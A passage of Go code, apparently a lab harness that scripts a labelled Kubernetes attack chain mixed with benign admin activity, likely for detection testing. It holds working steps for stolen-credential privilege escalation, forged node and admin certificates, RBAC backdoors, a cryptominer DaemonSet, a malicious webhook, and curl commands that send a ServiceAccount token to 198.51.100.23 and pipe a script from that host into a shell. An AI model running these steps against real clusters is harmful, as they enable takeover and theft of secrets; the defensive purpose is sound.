			_, err := alice.AuthorizationV1().SelfSubjectAccessReviews().Create(ctx, &authorizationv1.SelfSubjectAccessReview{Spec: authorizationv1.SelfSubjectAccessReviewSpec{
				ResourceAttributes: &authorizationv1.ResourceAttributes{Namespace: "shop", Verb: "create", Group: "apps", Resource: "deployments"}}}, metav1.CreateOptions{})
			return err
		}},

		// ---- bob's client certificate, stolen from his laptop. ----
		{id: "A07", name: "stolen-bob-cert-can-i-sweep", attack: true,
			technique: "T1069 Permission Groups Discovery (peirates / kubectl auth can-i loop)",
			why:       "probe the stolen identity for every escalation primitive",
			run: func() error {
				var errs []error
				for _, ra := range []authorizationv1.ResourceAttributes{
					{Verb: "create", Group: "rbac.authorization.k8s.io", Resource: "clusterrolebindings"},
					{Namespace: "kube-system", Verb: "list", Resource: "secrets"},
					{Namespace: "shop", Verb: "impersonate", Resource: "serviceaccounts"},
					{Namespace: "shop", Verb: "create", Resource: "serviceaccounts", Subresource: "token"},
					{Namespace: "shop", Verb: "create", Resource: "pods", Subresource: "exec"},
					{Verb: "get", Resource: "nodes", Subresource: "proxy"},
					{Verb: "escalate", Group: "rbac.authorization.k8s.io", Resource: "clusterroles"},
					{Verb: "approve", Group: "certificates.k8s.io", Resource: "signers"},
				} {
					_, err := stolenBob.AuthorizationV1().SelfSubjectAccessReviews().Create(ctx, &authorizationv1.SelfSubjectAccessReview{
						Spec: authorizationv1.SelfSubjectAccessReviewSpec{ResourceAttributes: &ra}}, metav1.CreateOptions{})
					errs = append(errs, err)
				}
				return allowed(errs...)
			}},
		{id: "A08", name: "stolen-bob-cert-probe-kube-system", attack: true,
			technique: "T1613 Container and Resource Discovery; T1552.007",
			why:       "a developer identity reaching for kube-system secrets and cluster bindings (refused)",
			run: func() error {
				_, e1 := stolenBob.CoreV1().Secrets("kube-system").List(ctx, metav1.ListOptions{})
				_, e2 := stolenBob.RbacV1().ClusterRoleBindings().List(ctx, metav1.ListOptions{})
				return allowed(refused(e1), refused(e2))
			}},
		{id: "A09", name: "stolen-bob-cert-dump-shop-secrets", attack: true,
			technique: "T1552.007 Container API; MS: List K8S secrets",
			why:       "take every secret value the stolen identity can read, from the attacker's host",
			run: func() error {
				_, err := stolenBob.CoreV1().Secrets("shop").List(ctx, metav1.ListOptions{})
				return err
			}},
		{id: "A10", name: "stolen-bob-impersonates-release-manager", attack: true,
			technique: "T1078 Valid Accounts; KubeHound IDENTITY_IMPERSONATE; MS: Container service account",
			why:       "edit's impersonate-serviceaccounts turns into the cluster-admin release SA",
			run: func() error {
				_, err := bobAsRM.CoreV1().Secrets("kube-system").List(ctx, metav1.ListOptions{})
				return err
			}},
		{id: "A11", name: "stolen-bob-tokenrequest-release-manager", attack: true,
			technique: "T1528 Steal Application Access Token; KubeHound TOKEN_REQUEST-style escalation",
			why:       "mint a day-long token for the cluster-admin ServiceAccount",
			run: func() error {
				exp := int64(86400)
				tr, err := stolenBob.CoreV1().ServiceAccounts("shop").CreateToken(ctx, "release-manager", &authenticationv1.TokenRequest{
					Spec: authenticationv1.TokenRequestSpec{ExpirationSeconds: &exp}}, metav1.CreateOptions{})
				if err != nil {
					return err
				}
				rm = client(c.TokenKubeconfig(t, "release-manager", tr.Status.Token), attacker, kubectlUA)
				return nil
			}},
		{id: "A12", name: "stolen-bob-pod-with-release-manager-sa", attack: true,
			technique: "T1610 Deploy Container; KubeHound POD_CREATE -> TOKEN_STEAL",
			why:       "a pod that mounts the privileged ServiceAccount's token, named like the app",
			run: func() error {
				_, err := stolenBob.CoreV1().Pods("shop").Create(ctx, &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "web-7d4b9c-debug", Labels: map[string]string{"app": "web"}},
					Spec: corev1.PodSpec{ServiceAccountName: "release-manager", Containers: []corev1.Container{{Name: "debug", Image: "docker.io/library/alpine:3.20", Command: []string{"sleep", "infinity"}}}}},
					metav1.CreateOptions{})
				return err
			}},
		{id: "A13", name: "stolen-bob-exec-read-sa-token", attack: true,
			technique: "T1609 Container Administration Command; T1528; Stratus k8s.credential-access.steal-serviceaccount-token",
			why:       "exec cat of the mounted token (no kubelet in the lab: the server answers an error)",
			run: func() error {
				return served(stolenBob.CoreV1().RESTClient().Post().Namespace("shop").Resource("pods").Name("web-7d4b9c-debug").SubResource("exec").
					Param("container", "debug").Param("command", "cat").Param("command", "/var/run/secrets/kubernetes.io/serviceaccount/token").
					Param("stdout", "true").Param("stderr", "true").Do(ctx).Error())
			}},
		{id: "A14", name: "stolen-bob-sidecar-injection-patch", attack: true,
			technique: "MS: Sidecar injection; KubeHound POD_PATCH; T1610",
			why:       "patch the app's Deployment: lookalike istio-proxy sidecar exfiltrating the swapped-in admin SA token",
			run: func() error {
				_, err := stolenBob.AppsV1().Deployments("shop").Patch(ctx, "web", types.StrategicMergePatchType, strategic(`{"spec":{"template":{"spec":{"serviceAccountName":"release-manager","containers":[{"name":"istio-proxy","image":"docker.io/istio-proxyv2:1.22.1","command":["sh","-c","while true; do curl -s -d @/var/run/secrets/kubernetes.io/serviceaccount/token https://198.51.100.23/t; sleep 300; done"]}]}}}}`),
					metav1.PatchOptions{})
				return err
			}},
		{id: "A15", name: "stolen-bob-privileged-hostpath-pod-refused", attack: true,
			technique: "T1611 Escape to Host; Stratus k8s.privilege-escalation.privileged-pod",
			why:       "privileged, hostPID, host / mounted: refused by PodSecurity baseline",
			run: func() error {
				_, err := stolenBob.CoreV1().Pods("shop").Create(ctx, hoHostPod("shop", "cart-cache-warmup", ""), metav1.CreateOptions{})
				return refused(err)
			}},

		{id: "B11", name: "carol-describes-node", run: func() error {
			_, e1 := carol.CoreV1().Nodes().Get(ctx, node, metav1.GetOptions{})
			_, e2 := carol.CoreV1().Pods("").List(ctx, metav1.ListOptions{FieldSelector: "spec.nodeName=" + node})
			_, e3 := carol.CoreV1().Events("").List(ctx, metav1.ListOptions{FieldSelector: "involvedObject.kind=Node,involvedObject.name=" + node})
			return allowed(e1, e2, e3)
		}},
		{id: "B12", name: "alice-deletes-stuck-cart-pod", run: func() error {
			p, err := podsIn(alice, "shop", "cart")
			if err != nil {
				return err
			}
			return alice.CoreV1().Pods("shop").Delete(ctx, p, metav1.DeleteOptions{})
		}},

		// ---- The release-manager token (cluster-admin), from the attacker's host. ----
		{id: "A16", name: "admin-sa-dump-all-secrets", attack: true,
			technique: "T1552.007 Container API; Stratus k8s.credential-access.dump-secrets",
			why:       "every Secret of every namespace in one list",
			run: func() error {
				if err := need(rm, "release-manager token"); err != nil {
					return err
				}
				_, err := rm.CoreV1().Secrets("").List(ctx, metav1.ListOptions{})
				return err
			}},
		{id: "A17", name: "admin-sa-read-bootstrap-token", attack: true,
			technique: "T1552.007; T1078 Valid Accounts",
			why:       "a kubeadm join token lets a rogue machine register as a node",
			run: func() error {
				if err := need(rm, "release-manager token"); err != nil {
					return err
				}
				s, err := rm.CoreV1().Secrets("kube-system").Get(ctx, "bootstrap-token-abcdef", metav1.GetOptions{})
				if err != nil {
					return err
				}
				bootstrap = client(c.TokenKubeconfig(t, "bootstrap", string(s.Data["token-id"])+"."+string(s.Data["token-secret"])), attacker, kubeletUA)
				return nil
			}},
		{id: "A18", name: "bootstrap-token-node-csr", attack: true,
			technique: "T1649 Steal or Forge Authentication Certificates; T1078 (kubelet TLS bootstrap abuse)",
			why:       "with the join token, request a kubelet client certificate for the existing node's name",
			run: func() error {
				if err := need(bootstrap, "bootstrap token"); err != nil {
					return err
				}
				req, key, err := hoCSR("system:node:"+node, []string{"system:nodes"})
				if err != nil {
					return err
				}
				_, err = bootstrap.CertificatesV1().CertificateSigningRequests().Create(ctx, &certificatesv1.CertificateSigningRequest{
					ObjectMeta: metav1.ObjectMeta{Name: "node-csr-q8f3k2xzvbn"},
					Spec: certificatesv1.CertificateSigningRequestSpec{Request: req, SignerName: certificatesv1.KubeAPIServerClientKubeletSignerName,
						Usages: []certificatesv1.KeyUsage{certificatesv1.UsageDigitalSignature, certificatesv1.UsageClientAuth}}}, metav1.CreateOptions{})
				if err != nil {
					return err
				}
				cert, err := waitCert(bootstrap, "node-csr-q8f3k2xzvbn")
				if err != nil {
					return err
				}
				nodeCert, nodeKey = cert, key
				nodeID = clientCfg(certCfg(nodeCert, nodeKey), attacker, kubeletUA)
				return nil
			}},
		{id: "A19", name: "forged-node-identity-recon", attack: true,
			technique: "T1078 Valid Accounts; T1613; T1552.007",
			why:       "as system:node:<node>: read the node, list pods, try a Secret of another workload",
			run: func() error {
				if err := need(nodeID, "node certificate"); err != nil {
					return err
				}
				_, e1 := nodeID.CoreV1().Nodes().Get(ctx, node, metav1.GetOptions{})
				_, e2 := nodeID.CoreV1().Pods("").List(ctx, metav1.ListOptions{})
				_, e3 := nodeID.CoreV1().Secrets("payments").Get(ctx, "db-credentials", metav1.GetOptions{})
				return allowed(e1, allowedOrRefused(e2), allowedOrRefused(e3))
			}},
		{id: "A20", name: "forged-node-creates-static-mirror-pod", attack: true,
			technique: "MS: Static pods (persistence); T1611; T1036.005 Match Legitimate Name",
			why:       "the node identity plants a privileged host-mounting pod in kube-system, named like a control-plane pod",
			run: func() error {
				if err := need(nodeID, "node certificate"); err != nil {
					return err
				}
				n, err := nodeID.CoreV1().Nodes().Get(ctx, node, metav1.GetOptions{})
				if err != nil {
					return err
				}
				p := hoHostPod("kube-system", "kube-proxy-"+node, node)
				p.Annotations = map[string]string{"kubernetes.io/config.mirror": "6e2b1f0a9c7d4e3f8a5b2c1d0e9f8a7b", "kubernetes.io/config.hash": "6e2b1f0a9c7d4e3f8a5b2c1d0e9f8a7b",
					"kubernetes.io/config.source": "file"}
				ctrl := true
				p.OwnerReferences = []metav1.OwnerReference{{APIVersion: "v1", Kind: "Node", Name: n.Name, UID: n.UID, Controller: &ctrl}}
				_, err = nodeID.CoreV1().Pods("kube-system").Create(ctx, p, metav1.CreateOptions{})
				return err
			}},
		{id: "A21", name: "admin-sa-rbac-buster-backdoor", attack: true,
			technique: "T1098.006 Additional Container Cluster Roles; T1136 Create Account (Aqua RBAC Buster)",
			why:       "kube-system ServiceAccount + wildcard ClusterRole + binding, all named kube-controller",
			run: func() error {
				if err := need(rm, "release-manager token"); err != nil {
					return err
				}
				_, e1 := rm.CoreV1().ServiceAccounts("kube-system").Create(ctx, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: "kube-controller"}}, metav1.CreateOptions{})
				_, e2 := rm.RbacV1().ClusterRoles().Create(ctx, &rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{Name: "kube-controller"}, Rules: []rbacv1.PolicyRule{
					{APIGroups: []string{"*"}, Resources: []string{"*"}, Verbs: []string{"*"}}, {NonResourceURLs: []string{"*"}, Verbs: []string{"*"}}}}, metav1.CreateOptions{})
				_, e3 := rm.RbacV1().ClusterRoleBindings().Create(ctx, &rbacv1.ClusterRoleBinding{ObjectMeta: metav1.ObjectMeta{Name: "kube-controller"},
					RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "kube-controller"},
					Subjects: []rbacv1.Subject{rbacSubject(rbacv1.ServiceAccountKind, "kube-controller", "kube-system")}}, metav1.CreateOptions{})
				return allowed(e1, e2, e3)
			}},
		{id: "A22", name: "admin-sa-legacy-token-secret", attack: true,
			technique: "T1098.001 Additional Cloud Credentials; T1528 (non-expiring SA token Secret)",
			why:       "a kubernetes.io/service-account-token Secret never expires and survives token rotation",
			run: func() error {
				if err := need(rm, "release-manager token"); err != nil {
					return err
				}
				_, err := rm.CoreV1().Secrets("kube-system").Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "kube-controller-token",
					Annotations: map[string]string{corev1.ServiceAccountNameKey: "kube-controller"}}, Type: corev1.SecretTypeServiceAccountToken}, metav1.CreateOptions{})
				if err != nil {
					return err
				}
				deadline := time.Now().Add(30 * time.Second)
				for {
					s, err := rm.CoreV1().Secrets("kube-system").Get(ctx, "kube-controller-token", metav1.GetOptions{})
					if err == nil && len(s.Data[corev1.ServiceAccountTokenKey]) > 0 {
						backdoorToken = string(s.Data[corev1.ServiceAccountTokenKey])
						return nil
					}
					if time.Now().After(deadline) {
						return fmt.Errorf("legacy token never populated (last error %v)", err)
					}
					time.Sleep(500 * time.Millisecond)
				}
			}},
		{id: "A23", name: "backdoor-sa-used-from-second-host", attack: true,
			technique: "T1078 Valid Accounts; T1552.007",
			why:       "the planted ServiceAccount's token used from another attacker host to list nodes and secrets",
			run: func() error {
				if backdoorToken == "" {
					return errors.New("no backdoor token: an earlier step failed")
				}
				waitCan("system:serviceaccount:kube-system:kube-controller", saGroups("kube-system"), authorizationv1.ResourceAttributes{Verb: "list", Resource: "secrets"})
				backdoorSA = client(c.TokenKubeconfig(t, "kube-controller", backdoorToken), attacker2, "Go-http-client/1.1")
				_, e1 := backdoorSA.CoreV1().Nodes().List(ctx, metav1.ListOptions{})
				_, e2 := backdoorSA.CoreV1().Secrets("").List(ctx, metav1.ListOptions{})
				return allowed(e1, e2)
			}},
		{id: "A24", name: "admin-sa-year-long-token-for-controller-sa", attack: true,
			technique: "T1528 Steal Application Access Token; Stratus k8s.persistence.create-token",
			why:       "a one-year TokenRequest for a kube-system controller ServiceAccount",
			run: func() error {
				if err := need(rm, "release-manager token"); err != nil {
					return err
				}
				exp := int64(365 * 24 * 3600)
				_, err := rm.CoreV1().ServiceAccounts("kube-system").CreateToken(ctx, "clusterrole-aggregation-controller", &authenticationv1.TokenRequest{
					Spec: authenticationv1.TokenRequestSpec{ExpirationSeconds: &exp}}, metav1.CreateOptions{})
				return err
			}},
		{id: "A25", name: "admin-sa-csr-cluster-admin-cert-approved", attack: true,
			technique: "T1649 Forge Authentication Certificates; Stratus k8s.persistence.create-client-certificate",
			why:       "a year-long client certificate as kubeadm's admin.conf identity (kubeadm:cluster-admins), requested and approved by the attacker",
			run: func() error {
				if err := need(rm, "release-manager token"); err != nil {
					return err
				}
				// Not O=system:masters: kube-apiserver refuses that group for the
				// kube-apiserver-client signer, so an attacker forges the group
				// kubeadm binds to cluster-admin instead.
				req, key, err := hoCSR("kubernetes-admin", []string{"kubeadm:cluster-admins"})
				if err != nil {
					return err
				}
				exp := int32(365 * 24 * 3600)
				csr, err := rm.CertificatesV1().CertificateSigningRequests().Create(ctx, &certificatesv1.CertificateSigningRequest{
					ObjectMeta: metav1.ObjectMeta{Name: "kube-apiserver-healthcheck-client"},
					Spec: certificatesv1.CertificateSigningRequestSpec{Request: req, SignerName: certificatesv1.KubeAPIServerClientSignerName, ExpirationSeconds: &exp,
						Usages: []certificatesv1.KeyUsage{certificatesv1.UsageDigitalSignature, certificatesv1.UsageClientAuth}}}, metav1.CreateOptions{})
				if err != nil {
					return err
				}
				csr.Status.Conditions = append(csr.Status.Conditions, certificatesv1.CertificateSigningRequestCondition{Type: certificatesv1.CertificateApproved,
					Status: corev1.ConditionTrue, Reason: "KubectlApprove", Message: "This CSR was approved by kubectl certificate approve."})
				if _, err := rm.CertificatesV1().CertificateSigningRequests().UpdateApproval(ctx, csr.Name, csr, metav1.UpdateOptions{}); err != nil {
					return err
				}
				cert, err := waitCert(rm, csr.Name)
				if err != nil {
					return err
				}
				forgedCert, forgedKey = cert, key
				return nil
			}},
		{id: "A26", name: "forged-admin-cert-used", attack: true,
			technique: "T1078 Valid Accounts; T1552.007",
			why:       "the forged cluster-admin certificate, from the second host: whoami, then kube-system secrets",
			run: func() error {
				if forgedCert == nil {
					return errors.New("no forged certificate: an earlier step failed")
				}
				forged = clientCfg(certCfg(forgedCert, forgedKey), attacker2, kubectlUA)
				_, e1 := forged.AuthenticationV1().SelfSubjectReviews().Create(ctx, &authenticationv1.SelfSubjectReview{}, metav1.CreateOptions{})
				_, e2 := forged.CoreV1().Secrets("kube-system").List(ctx, metav1.ListOptions{})
				return allowed(e1, e2)
			}},
		{id: "A27", name: "admin-sa-patch-cluster-admins-binding", attack: true,
			technique: "T1098.006 Additional Container Cluster Roles",
			why:       "a JSON patch quietly adds the stolen developer to kubeadm:cluster-admins instead of a new binding",
			run: func() error {
				if err := need(rm, "release-manager token"); err != nil {
					return err
				}
				_, err := rm.RbacV1().ClusterRoleBindings().Patch(ctx, "kubeadm:cluster-admins", types.JSONPatchType,
					[]byte(`[{"op":"add","path":"/subjects/-","value":{"kind":"User","apiGroup":"rbac.authorization.k8s.io","name":"bob"}}]`), metav1.PatchOptions{})
				return err
			}},
		{id: "A28", name: "admin-sa-aggregated-clusterrole-backdoor", attack: true,
			technique: "T1098.006; T1036.005 Match Legitimate Name",
			why:       "a ClusterRole labelled aggregate-to-view silently gives every view/edit/admin holder secrets and exec",
			run: func() error {
				if err := need(rm, "release-manager token"); err != nil {
					return err
				}
				_, err := rm.RbacV1().ClusterRoles().Create(ctx, &rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{Name: "system:aggregate-to-view-metrics",
					Labels: map[string]string{"rbac.authorization.k8s.io/aggregate-to-view": "true"}}, Rules: []rbacv1.PolicyRule{
					{APIGroups: []string{""}, Resources: []string{"secrets"}, Verbs: []string{"get", "list", "watch"}},
					{APIGroups: []string{""}, Resources: []string{"pods/exec"}, Verbs: []string{"create", "get"}}}}, metav1.CreateOptions{})
				return err
			}},
		{id: "A29", name: "admin-sa-bind-cluster-admin-to-anonymous", attack: true,
			technique: "T1098.006; MS: Exposed sensitive interfaces (anonymous backdoor)",
			why:       "cluster-admin for system:anonymous and system:unauthenticated, under a system-looking name",
			run: func() error {
				if err := need(rm, "release-manager token"); err != nil {
					return err
				}
				_, err := rm.RbacV1().ClusterRoleBindings().Create(ctx, &rbacv1.ClusterRoleBinding{ObjectMeta: metav1.ObjectMeta{Name: "system:public-info-viewer-ext"},
					RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "cluster-admin"},
					Subjects: []rbacv1.Subject{rbacSubject(rbacv1.UserKind, "system:anonymous", ""), rbacSubject(rbacv1.GroupKind, "system:unauthenticated", "")}},
					metav1.CreateOptions{})
				return err
			}},

		{id: "B13", name: "argocd-syncs-team-green-namespace", run: func() error {
			labels := map[string]string{"app.kubernetes.io/instance": "platform-namespaces", "pod-security.kubernetes.io/enforce": "restricted"}
			_, e1 := argo.CoreV1().Namespaces().Create(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: "team-green", Labels: labels}}, metav1.CreateOptions{})
			_, e2 := argo.CoreV1().ResourceQuotas("team-green").Create(ctx, &corev1.ResourceQuota{ObjectMeta: metav1.ObjectMeta{Name: "default"},
				Spec: corev1.ResourceQuotaSpec{Hard: corev1.ResourceList{corev1.ResourcePods: resource.MustParse("30"), corev1.ResourceServices: resource.MustParse("10")}}}, metav1.CreateOptions{})
			_, e3 := argo.RbacV1().RoleBindings("team-green").Create(ctx, &rbacv1.RoleBinding{ObjectMeta: metav1.ObjectMeta{Name: "dev-green-edit", Labels: map[string]string{"app.kubernetes.io/instance": "platform-namespaces"}},
				RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "edit"}, Subjects: []rbacv1.Subject{rbacSubject(rbacv1.GroupKind, "dev-green", "")}}, metav1.CreateOptions{})
			return allowed(e1, e2, e3)
		}},
		{id: "B14", name: "ci-creates-image-pull-secret", run: func() error {
			_, err := ci.CoreV1().Secrets("shop").Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "regcred"}, Type: corev1.SecretTypeDockerConfigJson,
				Data: map[string][]byte{corev1.DockerConfigJsonKey: []byte(`{"auths":{"registry.example.com":{"auth":"Y2k6dG9rZW4="}}}`)}}, metav1.CreateOptions{})
			return err
		}},
		{id: "B15", name: "ci-rotates-cart-db-secret", run: func() error {
			s, err := ci.CoreV1().Secrets("shop").Get(ctx, "cart-db", metav1.GetOptions{})
			if err != nil {
				return err
			}
			s.Data["DATABASE_URL"] = []byte("postgres://cart:r0tated@db.shop.svc/cart")
			_, err = ci.CoreV1().Secrets("shop").Update(ctx, s, metav1.UpdateOptions{})
			return err
		}},
		{id: "B16", name: "alice-adds-hpa-and-pdb", run: func() error {
			minR, util := int32(2), int32(70)
			_, e1 := alice.AutoscalingV2().HorizontalPodAutoscalers("shop").Create(ctx, &autoscalingv2.HorizontalPodAutoscaler{ObjectMeta: metav1.ObjectMeta{Name: "cart"},
				Spec: autoscalingv2.HorizontalPodAutoscalerSpec{ScaleTargetRef: autoscalingv2.CrossVersionObjectReference{APIVersion: "apps/v1", Kind: "Deployment", Name: "cart"},
					MinReplicas: &minR, MaxReplicas: 6, Metrics: []autoscalingv2.MetricSpec{{Type: autoscalingv2.ResourceMetricSourceType,
						Resource: &autoscalingv2.ResourceMetricSource{Name: corev1.ResourceCPU, Target: autoscalingv2.MetricTarget{Type: autoscalingv2.UtilizationMetricType, AverageUtilization: &util}}}}}},
				metav1.CreateOptions{})
			one := intstr.FromInt32(1)
			_, e2 := alice.PolicyV1().PodDisruptionBudgets("shop").Create(ctx, &policyv1.PodDisruptionBudget{ObjectMeta: metav1.ObjectMeta{Name: "cart"},
				Spec: policyv1.PodDisruptionBudgetSpec{MinAvailable: &one, Selector: &metav1.LabelSelector{MatchLabels: map[string]string{"app": "cart"}}}}, metav1.CreateOptions{})
			return allowed(e1, e2)
		}},

		// ---- Escape, persistence and lateral movement with cluster-admin. ----
		{id: "A30", name: "admin-sa-relabel-namespace-privileged", attack: true,
			technique: "T1562.001 Impair Defenses: Disable or Modify Tools",
			why:       "switch PodSecurity enforcement of shop to privileged before the breakout pod",
			run: func() error {
				if err := need(rm, "release-manager token"); err != nil {
					return err
				}
				_, err := rm.CoreV1().Namespaces().Patch(ctx, "shop", types.MergePatchType,
					[]byte(`{"metadata":{"labels":{"pod-security.kubernetes.io/enforce":"privileged"}}}`), metav1.PatchOptions{})
				return err
			}},
		{id: "A31", name: "admin-sa-node-debugger-breakout-pod", attack: true,
			technique: "T1611 Escape to Host; Stratus hostpath-volume + privileged-pod; KubeHound CE_NSENTER/CE_PRIV_MOUNT",
			why:       "kubectl-debug-node-shaped pod pinned to the node: privileged, host namespaces, / mounted, nsenter",
			run: func() error {
				if err := need(rm, "release-manager token"); err != nil {
					return err
				}
				_, err := rm.CoreV1().Pods("shop").Create(ctx, hoHostPod("shop", "node-debugger-"+node+"-x7k2p", node), metav1.CreateOptions{})
				return err
			}},
		{id: "A32", name: "admin-sa-kubelet-api-via-nodes-proxy", attack: true,
			technique: "T1609 Container Administration Command; Stratus k8s.privilege-escalation.nodes-proxy; MS: Access Kubelet API",
			why:       "list the node's pods and run a command in a payments container through nodes/proxy (no kubelet: server error)",
			run: func() error {
				if err := need(rm, "release-manager token"); err != nil {
					return err
				}
				e1 := rm.CoreV1().RESTClient().Get().AbsPath("/api/v1/nodes", node, "proxy", "pods").Do(ctx).Error()
				e2 := rm.CoreV1().RESTClient().Post().AbsPath("/api/v1/nodes", node, "proxy", "run", "payments", "payments-api-0", "payments-api").
					Param("cmd", "env").Do(ctx).Error()
				return allowed(served(e1), served(e2))
			}},
		{id: "A33", name: "admin-sa-cronjob-backdoor-kube-system", attack: true,
			technique: "T1053.007 Container Orchestration Job; MS: Kubernetes CronJob",
			why:       "a privileged host-mounting CronJob, named like an etcd backup, pulling a script every 10 minutes",
			run: func() error {
				if err := need(rm, "release-manager token"); err != nil {
					return err
				}
				p := hoHostPod("kube-system", "", "")
				p.Spec.RestartPolicy = corev1.RestartPolicyOnFailure
				p.Spec.Containers[0].Command = []string{"/bin/sh", "-c", "chroot /host sh -c 'curl -fsSL http://198.51.100.23/k.sh | sh'"}
				_, err := rm.BatchV1().CronJobs("kube-system").Create(ctx, &batchv1.CronJob{ObjectMeta: metav1.ObjectMeta{Name: "etcd-snapshot"},
					Spec: batchv1.CronJobSpec{Schedule: "*/10 * * * *", JobTemplate: batchv1.JobTemplateSpec{Spec: batchv1.JobSpec{
						Template: corev1.PodTemplateSpec{Spec: p.Spec}}}}}, metav1.CreateOptions{})
				return err
			}},
		{id: "A34", name: "admin-sa-cryptominer-daemonset", attack: true,
			technique: "T1496 Resource Hijacking; T1610 Deploy Container (RBAC Buster / Dero campaigns)",
			why:       "a DaemonSet on every node, tolerating every taint, image of the RBAC Buster campaign",
			run: func() error {
				if err := need(rm, "release-manager token"); err != nil {
					return err
				}
				labels := map[string]string{"app": "kube-controller"}
				_, err := rm.AppsV1().DaemonSets("kube-system").Create(ctx, &appsv1.DaemonSet{ObjectMeta: metav1.ObjectMeta{Name: "kube-controller"},
					Spec: appsv1.DaemonSetSpec{Selector: &metav1.LabelSelector{MatchLabels: labels}, Template: corev1.PodTemplateSpec{
						ObjectMeta: metav1.ObjectMeta{Labels: labels},
						Spec: corev1.PodSpec{ServiceAccountName: "kube-controller", HostNetwork: true, Tolerations: []corev1.Toleration{{Operator: corev1.TolerationOpExists}},
							Containers: []corev1.Container{{Name: "kube-controller", Image: "kubernetesio/kube-controller:1.0.1",
								Resources: corev1.ResourceRequirements{Limits: corev1.ResourceList{corev1.ResourceCPU: resource.MustParse("2")}}}}}}}}, metav1.CreateOptions{})
				return err
			}},
		{id: "A35", name: "admin-sa-malicious-mutating-webhook", attack: true,
			technique: "MS: Malicious admission controller (persistence, credential access)",
			why:       "every pod and Secret write sent to an external URL, lookalike Istio name, failing open",
			run: func() error {
				if err := need(rm, "release-manager token"); err != nil {
					return err
				}
				url, timeout := "https://198.51.100.23:8443/inject", int32(1)
				_, err := rm.AdmissionregistrationV1().MutatingWebhookConfigurations().Create(ctx, &admissionregistrationv1.MutatingWebhookConfiguration{
					ObjectMeta: metav1.ObjectMeta{Name: "istio-sidecar-injector-canary"},
					Webhooks: []admissionregistrationv1.MutatingWebhook{{Name: "sidecar-injector.istio.io", ClientConfig: admissionregistrationv1.WebhookClientConfig{URL: &url},
						Rules: []admissionregistrationv1.RuleWithOperations{{Operations: []admissionregistrationv1.OperationType{admissionregistrationv1.Create, admissionregistrationv1.Update},
							Rule: admissionregistrationv1.Rule{APIGroups: []string{""}, APIVersions: []string{"v1"}, Resources: []string{"pods", "secrets"}}}},
						FailurePolicy: &ignore, SideEffects: &sideEffectsNone, TimeoutSeconds: &timeout, AdmissionReviewVersions: []string{"v1"}}},
				}, metav1.CreateOptions{})
				return err
			}},

		{id: "B17", name: "alice-rollout-restart-cart", run: func() error {
			_, err := alice.AppsV1().Deployments("shop").Patch(ctx, "cart", types.StrategicMergePatchType,
				strategic(fmt.Sprintf(`{"spec":{"template":{"metadata":{"annotations":{"kubectl.kubernetes.io/restartedAt":%q}}}}}`, time.Now().Format(time.RFC3339))), metav1.PatchOptions{})
			return err
		}},
		{id: "B18", name: "ci-nightly-report-cronjob", run: func() error {
			_, err := ci.BatchV1().CronJobs("shop").Create(ctx, &batchv1.CronJob{ObjectMeta: metav1.ObjectMeta{Name: "nightly-report"},
				Spec: batchv1.CronJobSpec{Schedule: "30 2 * * *", JobTemplate: batchv1.JobTemplateSpec{Spec: batchv1.JobSpec{Template: corev1.PodTemplateSpec{
					Spec: corev1.PodSpec{RestartPolicy: corev1.RestartPolicyOnFailure, Containers: []corev1.Container{{Name: "report",
						Image: "registry.example.com/shop/reports:0.9.0", Args: []string{"--since", "24h"}}}}}}}}}, metav1.CreateOptions{})
			return err
		}},
		{id: "B19", name: "ci-ingress-and-networkpolicy", run: func() error {
			pt := networkingv1.PathTypePrefix
			_, e1 := ci.NetworkingV1().Ingresses("shop").Create(ctx, &networkingv1.Ingress{ObjectMeta: metav1.ObjectMeta{Name: "cart"},
				Spec: networkingv1.IngressSpec{Rules: []networkingv1.IngressRule{{Host: "shop.example.com", IngressRuleValue: networkingv1.IngressRuleValue{HTTP: &networkingv1.HTTPIngressRuleValue{
					Paths: []networkingv1.HTTPIngressPath{{Path: "/cart", PathType: &pt, Backend: networkingv1.IngressBackend{Service: &networkingv1.IngressServiceBackend{
						Name: "cart", Port: networkingv1.ServiceBackendPort{Number: 8080}}}}}}}}}}}, metav1.CreateOptions{})
			_, e2 := ci.NetworkingV1().NetworkPolicies("shop").Create(ctx, &networkingv1.NetworkPolicy{ObjectMeta: metav1.ObjectMeta{Name: "cart-from-web"},
				Spec: networkingv1.NetworkPolicySpec{PodSelector: metav1.LabelSelector{MatchLabels: map[string]string{"app": "cart"}},
					Ingress: []networkingv1.NetworkPolicyIngressRule{{From: []networkingv1.NetworkPolicyPeer{{PodSelector: &metav1.LabelSelector{MatchLabels: map[string]string{"app": "web"}}}}}}}},
				metav1.CreateOptions{})
			return allowed(e1, e2)
		}},

		{id: "A36", name: "admin-sa-ephemeral-debug-container-payments", attack: true,
			technique: "T1609 Container Administration Command; MS: New container / Exec into container",
			why:       "kubectl-debug-style ephemeral container sharing the payments process namespace (reads its env and memory)",
			run: func() error {
				if err := need(rm, "release-manager token"); err != nil {
					return err
				}
				p, err := podsIn(rm, "payments", "payments-api")
				if err != nil {
					return err
				}
				_, err = rm.CoreV1().Pods("payments").Patch(ctx, p, types.StrategicMergePatchType,
					strategic(`{"spec":{"ephemeralContainers":[{"name":"debugger-r2x9q","image":"docker.io/library/busybox:1.36","command":["sh"],"stdin":true,"tty":true,"targetContainerName":"payments-api"}]}}`),
					metav1.PatchOptions{}, "ephemeralcontainers")
				return err
			}},
		{id: "A37", name: "admin-sa-token-for-payments-sa-then-use", attack: true,
			technique: "MS: Container service account (lateral movement); T1528; T1550.001 Application Access Token",
			why:       "mint the payments app's own token and read its database credentials as the app, from the second host",
			run: func() error {
				if err := need(rm, "release-manager token"); err != nil {
					return err
				}
				tr, err := rm.CoreV1().ServiceAccounts("payments").CreateToken(ctx, "payments-api", &authenticationv1.TokenRequest{}, metav1.CreateOptions{})
				if err != nil {
					return err
				}
